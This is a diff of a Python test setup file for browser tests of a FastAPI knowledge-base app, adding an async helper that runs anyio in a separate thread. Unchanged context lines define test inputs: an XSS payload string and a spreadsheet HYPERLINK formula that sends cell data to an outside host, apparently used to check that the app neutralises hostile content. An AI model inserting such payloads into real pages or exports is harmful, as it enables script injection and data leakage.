@@ -7,11 +7,13 @@ import shutil
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Awaitable, Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
 from contextlib import contextmanager
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, TypeVar
 
+import anyio
 import pytest
 import uvicorn
 from fastapi import FastAPI
@@ -34,6 +36,7 @@ CHROMIUM_ARGS = [
     "--no-first-run",
 ]
 ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "web"
+T = TypeVar("T")
 HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
 
@@ -91,6 +94,13 @@ def hostile_kb(
 def hostile_client(hostile_kb: KnowledgeBase) -> Iterator[TestClient]:
     with TestClient(create_app(hostile_kb)) as test_client:
         yield test_client
+
+
+def run_async(main: Callable[[], Awaitable[T]]) -> T:
+    """``anyio.run(main)`` in a thread of its own: the browser tests' Playwright keeps an event
+    loop running in the main thread for the whole session."""
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        return pool.submit(anyio.run, main).result(timeout=60)
 
 
 def _free_port() -> int:
